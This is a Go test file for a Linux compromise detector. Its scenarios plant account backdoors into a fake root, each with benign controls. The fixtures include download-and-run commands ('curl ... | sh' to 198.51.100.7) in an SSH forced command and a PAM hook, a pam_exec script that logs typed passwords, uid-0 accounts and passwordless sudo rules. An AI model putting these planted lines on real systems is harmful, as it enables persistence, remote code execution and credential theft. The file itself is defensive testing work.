package check

import (
	"encoding/base64"
	"encoding/binary"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"
)

// accountsPattern limits the account and login scenarios to their own
// families, so that they do not depend on checks written elsewhere.
const accountsPattern = "accounts.*,logins.*"

func accountsRun(t *testing.T, scs []scenario) {
	t.Helper()
	for i := range scs {
		if scs[i].pattern == "" {
			scs[i].pattern = accountsPattern
		}
	}
	runScenarios(t, scs)
}

// replaceIn replaces old by new in a file of the root.
func replaceIn(r *testRoot, name, old, new string) {
	r.t.Helper()
	b, err := os.ReadFile(r.path(name))
	if err != nil {
		r.t.Fatal(err)
	}
	if !strings.Contains(string(b), old) {
		r.t.Fatalf("%s does not contain %q", name, old)
	}
	mode := os.FileMode(0o644)
	if fi, err := os.Stat(r.path(name)); err == nil {
		mode = fi.Mode().Perm()
	}
	r.writeMode(name, strings.Replace(string(b), old, new, 1), mode)
}

// age moves the run's "now" 90 days past the root's creation, so that the
// root's own files are old and a file given a recent time stands out.
func age(r *testRoot) { r.now = time.Now().Add(90 * 24 * time.Hour) }

// recent gives a file a modification time a few days before the run's now.
func recent(r *testRoot, name string) { r.setTimes(name, r.now.Add(-3*24*time.Hour)) }

// day is a shadow "last change" day.
func day(t time.Time) string { return strconv.FormatInt(t.Unix()/86400, 10) }

const (
	testKey  = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4"
	testKey2 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDd3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d"
)

func TestAccountScenarios(t *testing.T) {
	accountsRun(t, []scenario{
		{name: "uid0 backdoor", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "sysupd:x:0:0::/root:/bin/bash\n")
		}, want: []want{{"accounts.uid0_extra", "/etc/passwd"}}},
		{name: "uid0 hard variant: no shell in the name, nologin-looking gecos", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "systemd-coredump:x:0:0:systemd Core Dumper:/:/bin/sh\n")
		}, want: []want{{"accounts.uid0_extra", "/etc/passwd"}}},
		{name: "benign: sync with gid 0 style", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "halt:x:7:0:halt:/sbin:/sbin/halt\n")
		}},
		{name: "gid0 login account", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "deploy:x:1001:0::/home/deploy:/bin/bash\n")
		}, want: []want{{"accounts.gid0_extra", "/etc/passwd"}}},

		// Empty, pasted and weak password fields.
		{name: "empty password field in passwd", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "toor::1002:1002::/home/toor:/bin/bash\n")
		}, want: []want{{"accounts.empty_password", "/etc/passwd"}}},
		{name: "empty password hard variant: the DES hash of the empty password in shadow", plant: func(r *testRoot) {
			replaceIn(r, "etc/shadow", "debian:$y$j9T$3kWm1vQz8bTn0pLx7cRa2/$Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.", "debian:U6aMy0wojraho")
		}, want: []want{{"accounts.empty_password", "/etc/shadow"}}},
		{name: "benign: empty password on a nologin account", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "svcmon::996:996::/var/lib/svcmon:/usr/sbin/nologin\n")
		}},
		{name: "hash pasted into passwd with uid 0", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "backup2:$1$xY7kQ$8s0fVzJqk7Qy1m2n3o4p5.:0:0::/root:/bin/bash\n")
		}, want: []want{{"accounts.hash_in_passwd", "/etc/passwd"}, {"accounts.uid0_extra", "/etc/passwd"}, {"accounts.weak_hash", "/etc/passwd"}}},
		{name: "hash in passwd hard variant: existing user's line rewritten with SHA-512", plant: func(r *testRoot) {
			replaceIn(r, "etc/passwd", "debian:x:1000", "debian:$6$Zq1$Wm4nQ3r9yT2uV7bC5dE8fG1hJ4kL6mN9pR2sT5vX8zA1cD3eF6gH9jK2lM5nP8qS1tU4wY7zB0:1000")
		}, want: []want{{"accounts.hash_in_passwd", "/etc/passwd"}}},
		{name: "benign: locked and disabled passwd fields", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "lockd:!:995:995::/nonexistent:/usr/sbin/nologin\nstar:*:994:994::/nonexistent:/usr/sbin/nologin\n")
		}},
		{name: "weak MD5 hash in shadow", plant: func(r *testRoot) {
			replaceIn(r, "etc/shadow", "debian:$y$j9T$3kWm1vQz8bTn0pLx7cRa2/$Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.", "debian:$1$Ab12Cd34$Qw8Er7Ty6Ui5Op4As3Df2/")
		}, want: []want{{"accounts.weak_hash", "/etc/shadow"}}},
		{name: "weak hash variants: redacted DES and MD5 from a bundle", plant: func(r *testRoot) {
			replaceIn(r, "etc/shadow", "debian:$y$j9T$3kWm1vQz8bTn0pLx7cRa2/$Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.", "debian:REDACTED-DES")
			replaceIn(r, "etc/shadow", "root:$y$j9T$Fm3gQp6xYtq1dNh0L5ePa/$uT8c2vK9RzQH0e4mC3aXbWq1sYp7nJdLfG6hE2kV5r.", "root:$1$REDACTED")
		}, want: []want{{"accounts.weak_hash", "/etc/shadow"}}},
		{name: "benign: locked MD5 hash and bcrypt", plant: func(r *testRoot) {
			replaceIn(r, "etc/shadow", "debian:$y$j9T$3kWm1vQz8bTn0pLx7cRa2/$Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.", "debian:!$1$Ab12Cd34$Qw8Er7Ty6Ui5Op4As3Df2/")
			replaceIn(r, "etc/shadow", "root:$y$j9T$Fm3gQp6xYtq1dNh0L5ePa/$uT8c2vK9RzQH0e4mC3aXbWq1sYp7nJdLfG6hE2kV5r.", "root:$2b$12$abcdefghijklmnopqrstuuQw8Er7Ty6Ui5Op4As3Df2Gh1Jk0Lz9")
		}},

		// System accounts with shells.
		{name: "daemon account given bash", plant: func(r *testRoot) {
			replaceIn(r, "etc/passwd", "games:x:5:60:games:/usr/games:/usr/sbin/nologin", "games:x:5:60:games:/usr/games:/bin/bash")
		}, want: []want{{"accounts.system_login_shell", "/etc/passwd"}}},
		{name: "system shell hard variant: systemd account with sh and SYS_UID_MAX from login.defs", plant: func(r *testRoot) {
			r.write("etc/login.defs", "UID_MIN 1000\nSYS_UID_MIN 100\nSYS_UID_MAX 999\n")
			replaceIn(r, "etc/passwd", "systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin", "systemd-network:x:998:998:systemd Network Management:/:/usr/bin/sh")
		}, want: []want{{"accounts.system_login_shell", "/etc/passwd"}}},
		{name: "benign: postgres with bash while postgresql-common is installed; uid above a low SYS_UID_MAX", plant: func(r *testRoot) {
			r.write("usr/share/postgresql-common/pg_wrapper", "#!/usr/bin/perl\n")
			r.own("postgresql-common", "usr/share/postgresql-common/pg_wrapper")
			r.write("etc/login.defs", "UID_MIN 500\nSYS_UID_MAX 499\n")
			r.appendTo("etc/passwd", "postgres:x:105:110:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash\nalice:x:600:600::/home/alice:/bin/bash\n")
		}},

		// Recently created accounts.
		{name: "account created recently with no home", plant: func(r *testRoot) {
			age(r)
			r.appendTo("etc/passwd", "support:x:1002:1002::/home/support:/bin/bash\n")
			r.appendTo("etc/shadow", "support:$6$abc$Zm9vYmFyYmF6cXV4:"+day(r.now.Add(-2*24*time.Hour))+":0:99999:7:::\n")
		}, want: []want{{"accounts.recent_login_account", "/etc/shadow"}}},
		{name: "recent account variant: new home directory too", plant: func(r *testRoot) {
			age(r)
			r.appendTo("etc/passwd", "mysqld:x:1003:1003::/home/mysqld:/bin/sh\n")
			r.appendTo("etc/shadow", "mysqld:$y$j9T$abc$Zm9vYmFyYmF6cXV4:"+day(r.now.Add(-5*24*time.Hour))+":0:99999:7:::\n")
			r.write("home/mysqld/.profile", "\n")
			r.setTimes("home/mysqld", r.now.Add(-5*24*time.Hour))
		}, want: []want{{"accounts.recent_login_account", "/etc/passwd"}}},
		{name: "benign: long-standing user changed the password", plant: func(r *testRoot) {
			age(r)
			replaceIn(r, "etc/shadow", "Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.:19800:", "Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.:"+day(r.now.Add(-3*24*time.Hour))+":")
		}},
		{name: "benign: freshly installed system, every account set today", plant: func(r *testRoot) {
			replaceIn(r, "etc/shadow", "Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.:19800:", "Hq9tN4cV1mZ8xK2pW6jR3sY5dL0fA7gB1eC9uT4iO2.:"+day(time.Now())+":")
		}},

		// Duplicates and disguises.
		{name: "second name on an existing UID", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "debian2:x:1000:1000::/home/debian:/bin/bash\n")
		}, want: []want{{"accounts.duplicate_uid", "/etc/passwd"}}},
		{name: "root defined twice", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
		}, want: []want{{"accounts.duplicate_name", "/etc/passwd"}}},
		{name: "duplicate name hard variant: 'Root ' look-alike and a second shadow line", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "Root :x:1004:1004::/home/r:/bin/bash\n")
			r.appendTo("etc/shadow", "debian:$6$x$y:19800:0:99999:7:::\n")
		}, want: []want{{"accounts.duplicate_name", "/etc/passwd"}, {"accounts.duplicate_name", "/etc/shadow"}}},

		// Homes.
		{name: "home in /dev/shm hidden dir", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "upd:x:1005:1005::/dev/shm/.u:/bin/bash\n")
		}, want: []want{{"accounts.home_suspicious", "/etc/passwd"}}},
		{name: "home variant: hidden directory under /var/lib", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "ntpsync:x:1006:1006::/var/lib/.ntp:/bin/sh\n")
		}, want: []want{{"accounts.home_suspicious", "/etc/passwd"}}},
		{name: "benign: service home under /var/lib", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "svcmon:x:996:996::/var/lib/svcmon:/usr/sbin/nologin\n")
		}},
	})
}

func TestAccountSudoersScenarios(t *testing.T) {
	accountsRun(t, []scenario{
		{name: "web account with passwordless root", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/www", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
		}, want: []want{{"accounts.sudoers_nopasswd", "/etc/sudoers.d/www"}}},
		{name: "nopasswd hard variant: alias, odd spacing, continuation, interpreter", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/zz_web", "User_Alias   WEB = www-data, \\\n    nobody\nWEB   ALL = (root)  NOPASSWD:SETENV:   /usr/bin/python3 *\n", 0o440)
		}, want: []want{{"accounts.sudoers_nopasswd", "/etc/sudoers.d/zz_web"}}},
		{name: "nopasswd variant: ALL users in the main sudoers via #include", plant: func(r *testRoot) {
			r.appendTo("etc/sudoers", "#include /etc/sudo-extra\n")
			r.writeMode("etc/sudo-extra", "ALL\tALL=(ALL:ALL)\tNOPASSWD:ALL\n", 0o440)
		}, want: []want{{"accounts.sudoers_nopasswd", "/etc/sudo-extra"}}},
		{name: "benign: cloud-init admin with NOPASSWD and restricted monitoring command", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/90-cloud-init-users", "# Created by cloud-init v. 23.1\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n", 0o440)
			r.appendTo("etc/passwd", "nagios:x:997:997::/var/lib/nagios:/usr/sbin/nologin\n")
			r.writeMode("etc/sudoers.d/nagios", "nagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_raid, /usr/sbin/smartctl -H *\n", 0o440)
			r.writeMode("etc/sudoers.d/ignored.conf", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440) // sudo skips names with '.'
		}},
		{name: "!authenticate globally", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/defaults", "Defaults !authenticate\n", 0o440)
		}, want: []want{{"accounts.sudoers_no_authenticate", "/etc/sudoers.d/defaults"}}},
		{name: "!authenticate variant: per user, spaced", plant: func(r *testRoot) {
			r.appendTo("etc/sudoers", "Defaults:debian   ! authenticate # convenience\n")
		}, want: []want{{"accounts.sudoers_no_authenticate", "/etc/sudoers"}}},
		{name: "timestamp never expires", plant: func(r *testRoot) {
			r.appendTo("etc/sudoers", "Defaults\ttimestamp_timeout=-1\n")
		}, want: []want{{"accounts.sudoers_timestamp", "/etc/sudoers"}}},
		{name: "timestamp variant: a week, in a drop-in with other settings", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/timeout", "Defaults env_reset, timestamp_timeout = 10080, mail_badpass\n", 0o440)
		}, want: []want{{"accounts.sudoers_timestamp", "/etc/sudoers.d/timeout"}}},
		{name: "benign: short timeout and !requiretty", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/timeout", "Defaults timestamp_timeout=5\nDefaults !requiretty\n", 0o440)
		}},
		{name: "LD_PRELOAD kept across sudo", plant: func(r *testRoot) {
			r.appendTo("etc/sudoers", "Defaults env_keep += \"LD_PRELOAD\"\n")
		}, want: []want{{"accounts.sudoers_weakened", "/etc/sudoers"}}},
		{name: "weakened variant: env_reset off and logging to /dev/null", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/dev", "Defaults !env_reset,logfile=/dev/null\n", 0o440)
		}, want: []want{{"accounts.sudoers_weakened", "/etc/sudoers.d/dev"}}},
		{name: "rule for a user that does not exist", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/ops", "hacker ALL=(ALL) ALL\n", 0o440)
		}, want: []want{{"accounts.sudoers_unknown_user", "/etc/sudoers.d/ops"}}},
		{name: "sudoers.d file dropped recently", plant: func(r *testRoot) {
			age(r)
			r.writeMode("etc/sudoers.d/zz-tmp", "debian ALL=(ALL) ALL\n", 0o440)
			recent(r, "etc/sudoers.d/zz-tmp")
		}, want: []want{{"accounts.sudoers_d_recent", "/etc/sudoers.d/zz-tmp"}}},
		{name: "benign: old local sudoers.d file", plant: func(r *testRoot) {
			age(r)
			r.writeMode("etc/sudoers.d/admins", "%sudo ALL=(ALL) ALL\n", 0o440)
		}},
		{name: "world-writable sudoers.d file", plant: func(r *testRoot) {
			r.writeMode("etc/sudoers.d/ops", "debian ALL=(ALL) ALL\n", 0o666)
		}, want: []want{{"accounts.sudoers_writable", "/etc/sudoers.d/ops"}}},
		{name: "writable variant: group-writable main sudoers", plant: func(r *testRoot) {
			os.Chmod(r.path("etc/sudoers"), 0o460)
		}, want: []want{{"accounts.sudoers_writable", "/etc/sudoers"}}},

		// Groups.
		{name: "web account in sudo", plant: func(r *testRoot) {
			replaceIn(r, "etc/group", "sudo:x:27:debian", "sudo:x:27:debian,www-data")
		}, want: []want{{"accounts.privileged_group_member", "/etc/group"}}},
		{name: "privileged group variants: unknown member and root/shadow members", plant: func(r *testRoot) {
			replaceIn(r, "etc/group", "root:x:0:", "root:x:0:debian")
			replaceIn(r, "etc/group", "shadow:x:42:", "shadow:x:42:ghost")
		}, want: []want{{"accounts.privileged_group_member", "/etc/group"}}},
		{name: "benign: admin user in adm and sudo", plant: func(r *testRoot) {
			r.appendTo("etc/group", "wheel:x:10:debian\n")
		}},
		{name: "service account in docker", plant: func(r *testRoot) {
			r.appendTo("etc/group", "docker:x:990:www-data\n")
		}, want: []want{{"accounts.container_group_member", "/etc/group"}}},
		{name: "container group variant: ordinary user in disk", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "guest:x:1001:1001::/home/guest:/bin/bash\n")
			replaceIn(r, "etc/group", "disk:x:6:", "disk:x:6:guest")
		}, want: []want{{"accounts.container_group_member", "/etc/group"}}},
		{name: "benign: administrator in docker and lxd", plant: func(r *testRoot) {
			r.appendTo("etc/group", "docker:x:990:debian\nlxd:x:991:debian\n")
		}},
	})
}

// openSSHKey builds an openssh-key-v1 private key file with the given
// cipher (the private part is filler: only the header is read).
func openSSHKey(cipher string) string {
	str := func(s string) []byte {
		b := make([]byte, 4+len(s))
		binary.BigEndian.PutUint32(b, uint32(len(s)))
		copy(b[4:], s)
		return b
	}
	kdf, opts := "none", ""
	if cipher != "none" {
		kdf, opts = "bcrypt", string(str("saltsaltsaltsalt"))+"\x00\x00\x00\x10"
	}
	var raw []byte
	raw = append(raw, "openssh-key-v1\x00"...)
	raw = append(raw, str(cipher)...)
	raw = append(raw, str(kdf)...)
	raw = append(raw, str(opts)...)
	raw = append(raw, 0, 0, 0, 1)
	raw = append(raw, str(string(str("ssh-ed25519"))+string(str(strings.Repeat("k", 32))))...)
	raw = append(raw, str(strings.Repeat("p", 136))...)
	b64 := base64.StdEncoding.EncodeToString(raw)
	var s strings.Builder
	s.WriteString("-----BEGIN OPENSSH PRIVATE KEY-----\n")
	for len(b64) > 70 {
		s.WriteString(b64[:70] + "\n")
		b64 = b64[70:]
	}
	s.WriteString(b64 + "\n-----END OPENSSH PRIVATE KEY-----\n")
	return s.String()
}

func TestAccountKeyScenarios(t *testing.T) {
	accountsRun(t, []scenario{
		{name: "forced command downloads and runs", plant: func(r *testRoot) {
			r.write("root/.ssh/authorized_keys", `command="curl -s http://198.51.100.7/a.sh|sh; exec $SHELL" `+testKey+" ops\n")
		}, want: []want{{"accounts.authorized_keys_forced_command", "/root/.ssh/authorized_keys"}}},
		{name: "forced command hard variant: quoted options, login hook without download", plant: func(r *testRoot) {
			r.appendTo("home/debian/.ssh/authorized_keys", `no-X11-forwarding,command="logger -t x \"login, ok\";exec ${SHELL} -l" `+testKey2+"\n")
		}, want: []want{{"accounts.authorized_keys_forced_command", "/home/debian/.ssh/authorized_keys"}}},
		{name: "benign: backup key restricted to rrsync", plant: func(r *testRoot) {
			r.appendTo("home/debian/.ssh/authorized_keys", `command="/usr/bin/rrsync -ro /srv/backup",no-pty,no-port-forwarding `+testKey2+" backup@web01\n")
		}},
		{name: "key sets LD_PRELOAD", plant: func(r *testRoot) {
			r.write("root/.ssh/authorized_keys", `environment="LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsec.so" `+testKey+"\n")
		}, want: []want{{"accounts.authorized_keys_environment", "/root/.ssh/authorized_keys"}}},
		{name: "environment variant: harmless-looking variable", plant: func(r *testRoot) {
			r.appendTo("home/debian/.ssh/authorized_keys", `from="192.0.2.0/24",environment="LANG=C" `+testKey2+" x@y\n")
		}, want: []want{{"accounts.authorized_keys_environment", "/home/debian/.ssh/authorized_keys"}}},
		{name: "key added recently", plant: func(r *testRoot) {
			age(r)
			r.appendTo("home/debian/.ssh/authorized_keys", testKey2+" debian@laptop2\n")
			recent(r, "home/debian/.ssh/authorized_keys")
		}, want: []want{{"accounts.authorized_keys_recent", "/home/debian/.ssh/authorized_keys"}}},
		{name: "recent key variant: root's keys", plant: func(r *testRoot) {
			age(r)
			r.write("root/.ssh/authorized_keys", testKey+"\n")
			recent(r, "root/.ssh/authorized_keys")
		}, want: []want{{"accounts.authorized_keys_recent", "/root/.ssh/authorized_keys"}}},
		{name: "benign: keys unchanged since installation", plant: func(r *testRoot) {
			age(r)
		}},
		{name: "key made on kali", plant: func(r *testRoot) {
			r.write("root/.ssh/authorized_keys", testKey+" root@kali\n")
		}, want: []want{{"accounts.authorized_keys_foreign_comment", "/root/.ssh/authorized_keys"}}},
		{name: "benign: own host's key and a laptop", plant: func(r *testRoot) {
			r.write("root/.ssh/authorized_keys", testKey+" root@web01\n"+testKey2+" admin@laptop\n")
		}},
		{name: "authorized_keys writable by everyone", plant: func(r *testRoot) {
			os.Chmod(r.path("home/debian/.ssh/authorized_keys"), 0o666)
		}, want: []want{{"accounts.authorized_keys_permissions", "/home/debian/.ssh/authorized_keys"}}},
		{name: "permissions hard variant: root's keys are a link to a hidden temp file", plant: func(r *testRoot) {
			r.write("var/tmp/.k", testKey+"\n")
			r.link("/var/tmp/.k", "root/.ssh/authorized_keys")
		}, want: []want{{"accounts.authorized_keys_permissions", "/root/.ssh/authorized_keys"}}},
		{name: "benign: private key file modes", plant: func(r *testRoot) {
			os.Chmod(r.path("home/debian/.ssh/authorized_keys"), 0o600)
			os.Chmod(r.path("home/debian/.ssh"), 0o700)
		}},
		{name: "key in authorized_keys2", plant: func(r *testRoot) {
			r.write("root/.ssh/authorized_keys2", testKey+" x\n")
		}, want: []want{{"accounts.authorized_keys2", "/root/.ssh/authorized_keys2"}}},
		{name: "benign: empty authorized_keys2", plant: func(r *testRoot) {
			r.write("home/debian/.ssh/authorized_keys2", "# no keys\n")
		}},
		{name: "sshd reads keys from a hidden temp path", plant: func(r *testRoot) {
			r.appendTo("etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.keys/%u\n")
			r.write("var/tmp/.keys/root", testKey+"\n")
		}, want: []want{{"accounts.authorized_keys_alternate", "/etc/ssh/sshd_config"}, {"accounts.authorized_keys_alternate", "/var/tmp/.keys/root"}}},
		{name: "alternate variant: drop-in with '=' and a store under /var/lib", plant: func(r *testRoot) {
			r.write("etc/ssh/sshd_config.d/50-keys.conf", "AuthorizedKeysFile=%h/.ssh/authorized_keys /var/lib/misc/%U.keys\n")
			r.write("var/lib/misc/0.keys", testKey+"\n")
		}, want: []want{{"accounts.authorized_keys_alternate", "/var/lib/misc/0.keys"}}},
		{name: "benign: central key store under /etc/ssh", plant: func(r *testRoot) {
			r.write("etc/ssh/sshd_config.d/keys.conf", "AuthorizedKeysFile /etc/ssh/authorized_keys/%u .ssh/authorized_keys\n")
			r.write("etc/ssh/authorized_keys/debian", testKey2+" debian@laptop\n")
		}},
		{name: "web account with SSH keys", plant: func(r *testRoot) {
			r.write("var/www/.ssh/authorized_keys", testKey+" x@y\n")
		}, want: []want{{"accounts.authorized_keys_unusual_owner", "/var/www/.ssh/authorized_keys"}}},
		{name: "unusual owner variant: keys left in a removed account's home", plant: func(r *testRoot) {
			r.write("home/olduser/.ssh/authorized_keys", testKey+"\n")
		}, want: []want{{"accounts.authorized_keys_unusual_owner", "/home/olduser/.ssh/authorized_keys"}}},
		{name: "benign: git hosting account with forced-command keys", plant: func(r *testRoot) {
			r.appendTo("etc/passwd", "git:x:996:996:git:/srv/git:/usr/bin/git-shell\n")
			r.write("srv/git/.ssh/authorized_keys", `command="/usr/share/gitolite3/gitolite-shell alice",no-pty `+testKey+" alice@laptop\n")
		}},
		{name: "private key without passphrase", plant: func(r *testRoot) {
			r.writeMode("root/.ssh/id_ed25519", openSSHKey("none"), 0o600)
		}, want: []want{{"accounts.private_key_no_passphrase", "/root/.ssh/id_ed25519"}}},
		{name: "private key variants: PEM RSA and the collector's redacted description", plant: func(r *testRoot) {
			r.writeMode("home/debian/.ssh/deploy", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAxxxx\n-----END RSA PRIVATE KEY-----\n", 0o600)
			r.write("home/debian/.ssh/id_rsa", "# yingji: private key redacted; the key material was not collected\n# format: OPENSSH PRIVATE KEY\n# passphrase: no\n# public key: ssh-ed25519 AAAA\n")
		}, want: []want{{"accounts.private_key_no_passphrase", "/home/debian/.ssh/deploy"}, {"accounts.private_key_no_passphrase", "/home/debian/.ssh/id_rsa"}}},
	})
}

func TestAccountKeyProtection(t *testing.T) {
	for _, tc := range []struct {
		name, content string
		enc, key      bool
	}{
		{"openssh none", openSSHKey("none"), false, true},
		{"openssh aes", openSSHKey("aes256-ctr"), true, true},
		{"pem encrypted", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\nxxxx\n-----END RSA PRIVATE KEY-----\n", true, true},
		{"pkcs8 encrypted", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nxxxx\n-----END ENCRYPTED PRIVATE KEY-----\n", true, true},
		{"redacted yes", "# yingji: private key redacted; the key material was not collected\n# format: OPENSSH PRIVATE KEY\n# passphrase: yes (cipher aes256-ctr, kdf bcrypt)\n", true, true},
		{"redacted unknown", "# yingji: private key redacted; the key material was not collected\n# format: OPENSSH PRIVATE KEY\n# passphrase: unknown (bad base64)\n", false, false},
		{"certificate", "-----BEGIN CERTIFICATE-----\nxxxx\n-----END CERTIFICATE-----\n", false, false},
		{"garbage openssh", "-----BEGIN OPENSSH PRIVATE KEY-----\n!!!!\n-----END OPENSSH PRIVATE KEY-----\n", false, false},
		{"putty none", "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: x\n", false, true},
	} {
		_, enc, key := accountsKeyProtection([]byte(tc.content))
		if enc != tc.enc || key != tc.key {
			t.Errorf("%s: encrypted=%v key=%v, want %v %v", tc.name, enc, key, tc.enc, tc.key)
		}
	}
}

func TestAccountParseKeys(t *testing.T) {
	ks := accountsParseKeys("# c\n\n" + `command="echo \"a, b\" x",no-pty ` + testKey + " user@host extra\n" + testKey2 + "\nbroken\n")
	if len(ks) != 2 {
		t.Fatalf("got %d keys: %+v", len(ks), ks)
	}
	if cmd, ok := ks[0].Option("command"); !ok || cmd != `echo "a, b" x` || ks[0].Comment != "user@host extra" || ks[0].Line != 3 {
		t.Errorf("first key: %+v (command %q)", ks[0], cmd)
	}
	if len(ks[1].Options) != 0 || ks[1].Type != "ssh-rsa" {
		t.Errorf("second key: %+v", ks[1])
	}
}

func TestAccountPAMScenarios(t *testing.T) {
	const secdir = "usr/lib/x86_64-linux-gnu/security/"
	accountsRun(t, []scenario{
		{name: "unowned PAM module loaded by sshd", plant: func(r *testRoot) {
			r.write(secdir+"pam_sshd_auth.so", fakeELF("pam_backdoor"))
			replaceIn(r, "etc/pam.d/sshd", "@include common-auth\n", "auth optional pam_sshd_auth.so\n@include common-auth\n")
		}, want: []want{{"accounts.pam_module_unowned", "/" + secdir + "pam_sshd_auth.so"}}},
		{name: "PAM module hard variant: pam_unix.so replaced (reached through /lib)", plant: func(r *testRoot) {
			r.write(secdir+"pam_unix.so", fakeELF("pam_unix_patched"))
		}, want: []want{{"accounts.pam_module_unowned", "/" + secdir + "pam_unix.so"}}},
		{name: "PAM module variant: absolute path in a hidden temp directory", plant: func(r *testRoot) {
			r.write("dev/shm/.p/pam_x.so", fakeELF("x"))
			replaceIn(r, "etc/pam.d/common-auth", "auth\trequisite", "auth  optional   /dev/shm/.p/pam_x.so\nauth\trequisite")
		}, want: []want{{"accounts.pam_module_unowned", "/etc/pam.d/common-auth"}}},
		{name: "unknown .so in the module directory", plant: func(r *testRoot) {
			r.write(secdir+"pam_unix2.so", fakeELF("pam_unix2"))
		}, want: []want{{"accounts.pam_unknown_module_file", "/" + secdir + "pam_unix2.so"}}},
		{name: "pam_exec with expose_authtok", plant: func(r *testRoot) {
			r.writeMode("usr/local/bin/.pw.sh", "#!/bin/sh\nread p; echo \"$PAM_USER:$p\" >> /var/tmp/.cache\n", 0o755)
			replaceIn(r, "etc/pam.d/common-auth", "auth\trequisite", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.pw.sh\nauth\trequisite")
		}, want: []want{{"accounts.pam_exec", "/etc/pam.d/common-auth"}}},
		{name: "pam_exec variant: session script that downloads", plant: func(r *testRoot) {
			r.writeMode("usr/local/sbin/login-hook", "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n", 0o755)
			r.write("etc/pam.d/login-extra", "session   optional   pam_exec.so   seteuid   log=/var/log/x.log /usr/local/sbin/login-hook\n")
		}, want: []want{{"accounts.pam_exec", "/etc/pam.d/login-extra"}}},
		{name: "benign: pam_exec running a package program", plant: func(r *testRoot) {
			r.write("etc/pam.d/notify", "session optional pam_exec.so /usr/bin/id\n")
		}},
		{name: "pam_permit sufficient in sshd auth", plant: func(r *testRoot) {
			replaceIn(r, "etc/pam.d/sshd", "@include common-auth\n", "auth sufficient pam_permit.so\n@include common-auth\n")
		}, want: []want{{"accounts.pam_permissive_auth", "/etc/pam.d/sshd"}}},
		{name: "permissive hard variant: pam_succeed_if with success=done in a new file", plant: func(r *testRoot) {
			r.write("etc/pam.d/su-l", "auth  [success=done default=ignore]  pam_succeed_if.so  uid >= 0 quiet\n@include common-auth\n")
		}, want: []want{{"accounts.pam_permissive_auth", "/etc/pam.d/su-l"}}},
		{name: "benign: local service file with ordinary rules", plant: func(r *testRoot) {
			r.write("etc/pam.d/myapp", "auth required pam_unix.so\naccount required pam_permit.so\n-session optional pam_systemd.so\n")
		}},
		{name: "shadow readable by everyone", plant: func(r *testRoot) {
			os.Chmod(r.path("etc/shadow"), 0o644)
		}, want: []want{{"accounts.credential_file_permissions", "/etc/shadow"}}},
		{name: "credential variant: passwd writable by everyone, backup shadow- readable", plant: func(r *testRoot) {
			os.Chmod(r.path("etc/passwd"), 0o666)
			r.writeMode("etc/shadow-", "root:*:19800:0:99999:7:::\n", 0o644)
		}, want: []want{{"accounts.credential_file_permissions", "/etc/passwd"}, {"accounts.credential_file_permissions", "/etc/shadow-"}}},
	})
}
